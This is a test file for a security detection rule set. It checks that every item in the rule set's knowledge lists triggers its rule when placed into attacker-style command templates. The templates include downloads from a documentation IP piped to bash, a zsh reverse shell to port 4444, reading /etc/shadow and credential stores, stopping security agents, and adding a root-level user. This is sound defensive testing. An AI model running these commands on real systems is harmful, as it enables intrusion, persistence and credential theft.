import { describe, expect, it } from 'vitest';
import { packFiles } from '../../../bench/corpus';
import { formatRuleProblems, loadRuleSet } from './load-rule-set';
import { exampleEvent } from './run-rule-examples';
import type { SourceFile } from './types';

/**
 * Every entry of a knowledge list in rules/lists/ is exercised: each item is put into
 * command lines that use it the way an attacker would, and the rule that reads the list
 * must fire on every one of them. Adding an item to a list without a rule that sees it
 * (or with a rule that only works for the first few items) fails here.
 *
 * `{}` in a template is replaced by the list item.
 */
interface ListUse {
  rule: string;
  templates: string[];
}

const USES: Record<string, ListUse[]> = {
  'boot-and-login-hooks': [
    {
      rule: 'SW-PER-0013',
      templates: ["echo '/opt/.x &' >> {}", 'sudo cp /tmp/x {}', 'echo /tmp/.x | sudo tee -a {}'],
    },
  ],
  'ca-anchor-dirs': [
    { rule: 'SW-DEF-0012', templates: ['sudo cp /tmp/ca.crt {}', 'cp ./.ca.pem {}'] },
  ],
  'log-config-files': [
    {
      rule: 'SW-DEF-0011',
      templates: ["echo 'Storage=none' > {}", 'sudo rm -f {}', "sed -i 's/^rotate 4/rotate 0/' {}"],
    },
  ],
  'command-launchers': [{ rule: 'SW-PRV-0003', templates: ['sudo {} /bin/sh', 'sudo {} bash'] }],
  downloaders: [
    { rule: 'SW-C2-0003', templates: ['{} http://203.0.113.7/x > /tmp/.x'] },
    { rule: 'SW-EXE-0014', templates: ['{} http://203.0.113.7/x.sh > x.sh; bash x.sh'] },
  ],
  'flood-tools': [{ rule: 'SW-IMP-0052', templates: ['{} 203.0.113.7', './{} -p 80 203.0.113.7'] }],
  'service-daemons': [
    {
      rule: 'SW-IMP-0201',
      templates: ['sudo killall -SIGTERM {}', 'kill -9 $(pgrep {})', 'pidof {} | xargs kill'],
    },
  ],
  'file-transfer-clients': [
    {
      rule: 'SW-C2-0003',
      templates: ['{} u@203.0.113.7:/srv/x /tmp/.x', '{} u@203.0.113.7:/srv/x /dev/shm/'],
    },
  ],
  'socket-runtimes': [
    { rule: 'SW-EXE-0015', templates: ["{} -c 'ztcp 203.0.113.7 4444 && exec /bin/sh >&$REPLY'"] },
  ],
  'discovery-commands': [
    { rule: 'SW-DIS-0007', templates: ['{} > /tmp/.out', '{} -a >> /tmp/x 2>&1'] },
  ],
  'directory-enumeration-tools': [
    { rule: 'SW-DIS-0050', templates: ['{} -d corp.example', 'sudo {} 10.0.0.5 -o /tmp/.d'] },
  ],
  'enumeration-scripts': [{ rule: 'SW-DIS-0001', templates: ['./{}', 'sudo {} -a 2>/dev/null'] }],
  'survey-identity-commands': [
    { rule: 'SW-DIS-0100', templates: ['{}; uname -a', 'echo "$({})@$(ifconfig)"'] },
    { rule: 'SW-DIS-0300', templates: ['{}; cat /etc/passwd'] },
  ],
  'survey-session-commands': [
    { rule: 'SW-DIS-0100', templates: ['{}; id', '{} | head; ps aux'] },
    { rule: 'SW-DIS-0300', templates: ['getent passwd; {}'] },
  ],
  'survey-host-commands': [
    { rule: 'SW-DIS-0100', templates: ['{}; whoami', 'id && {}'] },
    { rule: 'SW-DIS-0300', templates: ['{} && cut -d: -f1 /etc/passwd'] },
  ],
  'survey-network-commands': [
    { rule: 'SW-DIS-0100', templates: ['{}; id', 'w; {} | head'] },
    { rule: 'SW-DIS-0300', templates: ['cat /etc/group; {}'] },
  ],
  'survey-process-commands': [
    { rule: 'SW-DIS-0100', templates: ['{} -ef; whoami', 'netstat -an; {}'] },
    { rule: 'SW-DIS-0300', templates: ['lslogins; {}'] },
  ],
  'survey-security-commands': [
    { rule: 'SW-DIS-0100', templates: ['{}; id', 'ps aux; {}'] },
    { rule: 'SW-DIS-0300', templates: ['{}; compgen -u'] },
  ],
  'data-file-name-patterns': [
    {
      rule: 'SW-COL-0300',
      templates: ["find / -name '{}' 2>/dev/null", 'sudo find /home -iname "{}"', "locate '{}'"],
    },
  ],
  'renamable-attack-tools': [
    {
      rule: 'SW-DEF-0102',
      templates: ['cp $(which {}) /usr/sbin/systemd-helperd', 'cp /usr/bin/{} /usr/lib/.dbus-x'],
    },
  ],
  'credential-store-files': [
    { rule: 'SW-CRD-0100', templates: ['cat {}', 'sudo cp {} /tmp/x', 'base64 -w0 {}'] },
  ],
  'security-agents': [
    {
      rule: 'SW-DEF-0007',
      templates: ['sudo systemctl stop {}', 'pkill -9 {}', 'kubectl -n security delete ds {}'],
    },
  ],
  'bruteforce-tools': [
    { rule: 'SW-CRD-0002', templates: ['{} /tmp/h.txt', 'sudo {} -o /tmp/out x'] },
  ],
  'command-option-programs': [
    {
      rule: 'SW-PRV-0100',
      templates: ["sudo {} --cmd='/bin/sh -i'", 'sudo {} -x /bin/sh', '{} --up=/tmp/.h'],
    },
  ],
  'wireless-attack-tools': [
    { rule: 'SW-INI-0250', templates: ['sudo {} wlan0mon', '{} -i wlan0 -o /tmp/cap'] },
  ],
  'code-evaluators': [
    {
      rule: 'SW-EXE-0100',
      templates: [`{} -e 'system("id")'`, `{} -c 'os.execute("id")'`, `echo 'IO.popen("id")' | {}`],
    },
  ],
  'remote-command-programs': [
    {
      rule: 'SW-LAT-0100',
      templates: ["{} all 'useradd -ou 0 -g 0 x'", "{} -h hosts 'cat /etc/shadow'"],
    },
  ],
  'round-trip-encoders': [
    {
      rule: 'SW-PRV-0102',
      templates: ['sudo {} /etc/shadow | {} -d', '{} "$LFILE" | {} --decode'],
    },
  ],
  decoders: [
    {
      rule: 'SW-EXE-0004',
      templates: ['echo aWQK | {} -d | sh', 'bash -c "$(echo aWQK | {} --decode)"'],
    },
  ],
};

function listItems(files: readonly SourceFile[], name: string): string[] {
  const file = files.find((f) => f.path === `lists/${name}.json`);
  if (file === undefined) throw new Error(`rules/lists/${name}.json is missing`);
  return (JSON.parse(file.text) as { items: string[] }).items;
}

describe('knowledge lists in rules/lists/', () => {
  const { rules, lists } = packFiles();
  const loaded = loadRuleSet(rules, lists);

  for (const [name, uses] of Object.entries(USES)) {
    it(`every item of "${name}" is seen by the rules that use it`, () => {
      if (!loaded.ok) throw new Error(formatRuleProblems(loaded.errors));
      const items = listItems(lists, name);
      expect(items.length).toBeGreaterThan(0);
      const missed: string[] = [];
      for (const { rule, templates } of uses) {
        const file = rules.find((f) => f.path.endsWith(`/${rule}.json`));
        // the rule really reads the list (a renamed list or a rule rewritten without it fails)
        expect(file?.text, `${rule} does not read the list ${name}`).toContain(`"${name}"`);
        for (const item of items)
          for (const template of templates) {
            const line = template.replaceAll('{}', item);
            if (loaded.evaluator.evaluateRule(rule, exampleEvent(line)) === undefined)
              missed.push(`${rule}: ${line}`);
          }
      }
      expect(missed).toEqual([]);
    });
  }
}, 120_000);
